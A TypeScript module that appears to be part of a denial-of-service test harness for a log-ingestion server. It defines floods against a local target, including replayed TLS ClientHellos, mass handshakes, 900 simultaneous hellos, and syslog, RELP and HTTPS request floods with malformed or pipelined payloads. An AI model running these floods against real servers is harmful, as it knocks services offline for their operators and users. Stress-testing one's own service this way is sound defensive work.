/** Floods of TLS handshakes, at HTTPS and at syslog over TLS, by somebody who spends nothing on them: one ClientHello, sent again and again. */
import { once } from "node:events";
import { type AddressInfo, connect, createServer, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { connect as connectTls } from "node:tls";
import {
  type Attack,
  again,
  attackerAddress,
  called,
  fates,
  frame,
  frames,
  open,
  postHead,
  Raw,
  Tally,
  type Target,
} from "./attack.ts";

/** The first bytes of a client that speaks TLS 1.3. */
async function clientHello(): Promise<Buffer> {
  const listener = createServer().listen(0, "127.0.0.1");
  await once(listener, "listening");
  const { port } = listener.address() as AddressInfo;
  const client = connectTls({ host: "127.0.0.1", port }).on("error", () => {});
  const [socket] = (await once(listener, "connection")) as [Socket];
  const [hello] = (await once(socket, "data")) as [Buffer];
  client.destroy();
  socket.destroy();
  listener.close();
  return hello;
}

type Door = (target: Target) => number;
const https: Door = ({ port }) => port;
const syslog: Door = ({ syslogTlsPort }) => syslogTlsPort;

/** What becomes of one client, in a word. */
type Client = () => Promise<string>;

/** Fifty clients at a time; `prepare` is done once, before them. */
const fiftyAtATime = (prepare: (target: Target) => Promise<Client>): Attack => ({
  isTls: true,
  async run(target, signal) {
    const client = await prepare(target);
    const tally = new Tally();
    await again(50, signal, async () => tally.add(await client().catch(() => "closed")));
    return tally.answers;
  },
});

/** A hello, whatever comes back, and the end. */
const hellos = (door: Door): Attack =>
  fiftyAtATime(async (target) => {
    const hello = await clientHello();
    return async () => {
      const socket = connect({ host: "127.0.0.1", port: door(target), localAddress: attackerAddress });
      socket.on("error", () => {});
      socket.write(hello);
      const answered = once(socket, "data").then(() => "answered");
      const closed = once(socket, "close").then(() => "closed");
      try {
        return await Promise.race([answered, closed, delay(2_000, "silent")]);
      } finally {
        socket.resetAndDestroy();
      }
    };
  });

/** Whole handshakes. */
const handshakes = (door: Door): Attack =>
  fiftyAtATime(async (target) => async () => {
    const raw = connect({ host: "127.0.0.1", port: door(target), localAddress: attackerAddress });
    const socket = connectTls({ socket: raw, rejectUnauthorized: false });
    const done = once(socket, "secureConnect").then(() => "secured");
    try {
      return await Promise.race([done, delay(2_000, "not secured")]);
    } finally {
      socket.on("error", () => {}).destroy();
      raw.destroy();
    }
  });

/** Connections that say nothing until there are 900, and then their hellos at one moment. */
const hellosTogether = (door: Door): Attack => ({
  isTls: true,
  async run(target, signal) {
    const hello = await clientHello();
    const raws = await open(900, signal, () => new Raw(door(target)));
    for (const raw of raws) raw.socket.write(hello);
    await called(signal);
    const answered = raws.filter(({ got }) => got !== "").length;
    return { ...fates(raws.filter(({ got }) => got === "")), answered };
  },
});

/** Connections that send as fast as they are read, over TLS: `opening`, and then `bytes` again and again. */
const flood = (
  door: Door,
  connections: number,
  saidBy: (target: Target) => { readonly opening?: string; readonly bytes: string },
): Attack => ({
  isTls: true,
  async run(target, signal) {
    const { opening = "", bytes: text } = saidBy(target);
    const bytes = Buffer.from(text);
    const tally = new Tally();
    let sent = 0;
    await again(connections, signal, async (number) => {
      const raw = connect({ host: "127.0.0.1", port: door(target), localAddress: attackerAddress });
      const servername = `name-${number}.example.com`;
      const socket = connectTls({ socket: raw, rejectUnauthorized: false, servername });
      socket.on("error", () => {}).resume();
      const closed = once(socket, "close").catch(() => {});
      await Promise.race([once(socket, "secureConnect").catch(() => {}), closed, called(signal)]);
      socket.write(opening);
      while (!signal.aborted && !socket.destroyed) {
        sent += bytes.length;
        if (!socket.write(bytes))
          await Promise.race([once(socket, "drain").catch(() => {}), closed, called(signal)]);
      }
      if (!signal.aborted) tally.add("closed");
      socket.destroy();
      raw.destroy();
    });
    return { ...tally.answers, "MiB written": sent >> 20 };
  },
});

const relp: Door = ({ relpPort }) => relpPort;
const line = (message: string, { token }: Target) => frame(message, token);
/** A window of RELP whose numbers come again: a server need not know them from one another. */
function relpWindow(target: Target): string {
  const syslog = frame("x".repeat(100), target.token).replace(/^\d+ /, "");
  return Array.from(
    { length: 300 },
    (_, n) => `${n + 2} syslog ${Buffer.byteLength(syslog)} ${syslog}\n`,
  ).join("");
}
const postOf = (target: Target) => {
  const body = frames(8, "x".repeat(100));
  return (postHead(target, Buffer.byteLength(body)) + body).repeat(8);
};

export const tlsAttacks: Readonly<Record<string, Attack>> = {
  "HTTPS: hellos of TLS, 50 at a time": hellos(https),
  "HTTPS: whole handshakes, 50 at a time": handshakes(https),
  "HTTPS: 900 hellos of TLS at one moment": hellosTogether(https),
  "syslog over TLS: hellos, 50 at a time": hellos(syslog),
  "syslog over TLS: 900 hellos at one moment": hellosTogether(syslog),
  "syslog over TLS: a flood with a valid token, 4 connections": flood(syslog, 4, (target) => ({
    bytes: line("x".repeat(100), target).repeat(300),
  })),
  "syslog over TLS: a flood with a valid token, 200 connections": flood(syslog, 200, (target) => ({
    bytes: line("x".repeat(100), target).repeat(300),
  })),
  "syslog over TLS: a flood of tiny lines, 4 connections": flood(syslog, 4, (target) => ({
    bytes: line("", target).repeat(700),
  })),
  "syslog over TLS: malformed frames of 250 kB, 200 connections": flood(syslog, 200, (target) => ({
    bytes: `${line("x", target)}250000 ${"x".repeat(250_000)}`,
  })),
  "RELP over TLS: a flood with a valid token, 50 connections": flood(relp, 50, (target) => ({
    opening: "1 open 0 \n",
    bytes: relpWindow(target),
  })),
  "HTTPS: pipelined POST /logs, 100 connections": flood(https, 100, (target) => ({ bytes: postOf(target) })),
  "HTTPS: pipelined GET /docs/json, 100 connections": flood(https, 100, () => ({
    bytes: "GET /docs/json HTTP/1.1\r\nHost: a\r\n\r\n".repeat(20),
  })),
};
